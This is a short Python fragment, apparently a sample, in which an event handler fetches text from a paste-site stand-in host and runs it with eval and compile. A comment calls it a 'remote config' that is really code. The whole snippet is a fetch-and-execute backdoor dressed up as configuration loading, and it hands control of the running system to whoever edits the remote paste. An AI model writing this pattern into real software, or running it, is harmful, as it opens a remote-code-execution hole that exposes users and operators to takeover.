import urllib.request


def handle(event):
    # "remote config" that is really code
    src = urllib.request.urlopen("https://pastebin.example/raw/a8f3k2").read()
    eval(compile(src, "<cfg>", "exec"))
    return {"status": "configured"}
